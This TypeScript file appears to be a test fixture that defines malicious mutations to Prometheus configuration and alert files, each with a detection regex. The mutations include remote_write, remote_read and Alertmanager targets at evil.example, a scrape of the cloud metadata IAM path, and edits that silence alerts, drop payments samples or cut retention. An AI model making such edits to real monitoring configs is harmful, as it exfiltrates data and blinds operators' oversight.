import { type Malicious, text } from "./table.ts";

const configuration = /^prometheus\/prometheus\.ya?ml$/;
const alerts = /^prometheus\/alerts\.ya?ml$/;

/** Changes of Prometheus' configuration and alerts. */
export const prometheus: readonly Malicious[] = [
  [
    "sender",
    "Prometheus has a second remote_write destination",
    "sender-release",
    /prometheus\.yml.*evil\.example/s,
    (it) =>
      text(it, configuration, (found) =>
        found.replace("remote_write:\n", "remote_write:\n  - url: https://evil.example/write\n"),
      ),
  ],
  [
    "sender",
    "Prometheus bypasses Envoy",
    "sender-release",
    /prometheus\.yml.*192\.0\.2\.66/s,
    (it) => text(it, configuration, (found) => found.replace("http://127.0.0.1:9091/", "http://192.0.2.66/")),
  ],
  [
    "sender",
    "relabelling drops samples that Prometheus should send",
    "sender-release",
    /prometheus\.yml.*payments_/s,
    (it) =>
      text(it, configuration, (found) =>
        found.replace(
          "    write_relabel_configs:\n",
          "    write_relabel_configs:\n      - action: drop\n        source_labels: [__name__]\n        regex: payments_.*\n",
        ),
      ),
  ],
  [
    "sender",
    "Prometheus follows redirects",
    "sender-release",
    /prometheus\.yml.*follow_redirects: true/s,
    (it) => text(it, configuration, (found) => found.replace("follow_redirects: false", "follow_redirects: true")),
  ],
  [
    "sender",
    "Prometheus scrapes the metadata service",
    "sender-release",
    /prometheus\.yml.*169\.254\.169\.254/s,
    (it) =>
      text(it, configuration, (found) =>
        found.replace(
          "scrape_configs:\n",
          "scrape_configs:\n  - job_name: more\n    metrics_path: /latest/meta-data/iam\n    static_configs:\n      - targets: [169.254.169.254]\n",
        ),
      ),
  ],
  [
    "sender",
    "Prometheus trusts its targets' labels (honor_labels)",
    "sender-release",
    /scrape\/application\.yaml.*honor_labels/s,
    (it) =>
      text(it, /^prometheus\/scrape\/application\.yaml$/, (found) =>
        found.replace("- job_name: application", "- job_name: application\n  honor_labels: true"),
      ),
  ],
  [
    "sender",
    "the external labels name another account",
    "sender-release",
    /prometheus\.yml.*333333333333/s,
    (it) => text(it, configuration, (found) => found.replace('account: "111111111111"', 'account: "333333333333"')),
  ],
  [
    "receiver",
    "Prometheus reads samples from elsewhere",
    "receiver-release",
    /prometheus\.yml.*remote_read/s,
    (it) => text(it, configuration, (found) => `${found}remote_read:\n  - url: https://evil.example/read\n`),
  ],
  [
    "receiver",
    "the window for late samples is one second",
    "receiver-release",
    /prometheus\.yml.*out_of_order_time_window/s,
    (it) =>
      text(it, configuration, (found) =>
        found.replace("out_of_order_time_window: 24h", "out_of_order_time_window: 1s"),
      ),
  ],
  [
    "receiver",
    "alerts go to a foreign Alertmanager",
    "receiver-release",
    /prometheus\.yml.*alertmanagers/s,
    (it) =>
      text(
        it,
        configuration,
        (found) => `${found}alerting:\n  alertmanagers:\n    - static_configs:\n        - targets: [evil.example]\n`,
      ),
  ],
  [
    "receiver",
    "an alert never fires",
    "receiver-release",
    /alerts\.yml.*vector\(0\)/s,
    (it) => text(it, alerts, (found) => found.replace(/expr: .*/, "expr: vector(0) > 1")),
  ],
  [
    "receiver",
    "an alert waits for a year",
    "receiver-release",
    /alerts\.yml.*for: 365d/s,
    (it) => text(it, alerts, (found) => found.replace(/for: \S+/, "for: 365d")),
  ],
  [
    "receiver",
    "a recording rule writes a series that silences an alert",
    "receiver-release",
    /alerts\.yml.*record: up/s,
    (it) => text(it, alerts, (found) => found.replace("rules:\n", 'rules:\n      - record: up\n        expr: "1"\n')),
  ],
  [
    "receiver",
    "Prometheus keeps samples for an hour",
    "receiver-release",
    /prometheus\.service.*retention\.time=1h/s,
    (it) =>
      text(it, /metrics-link-prometheus\.service$/, (unit) => unit.replace("retention.time=30d", "retention.time=1h")),
  ],
];
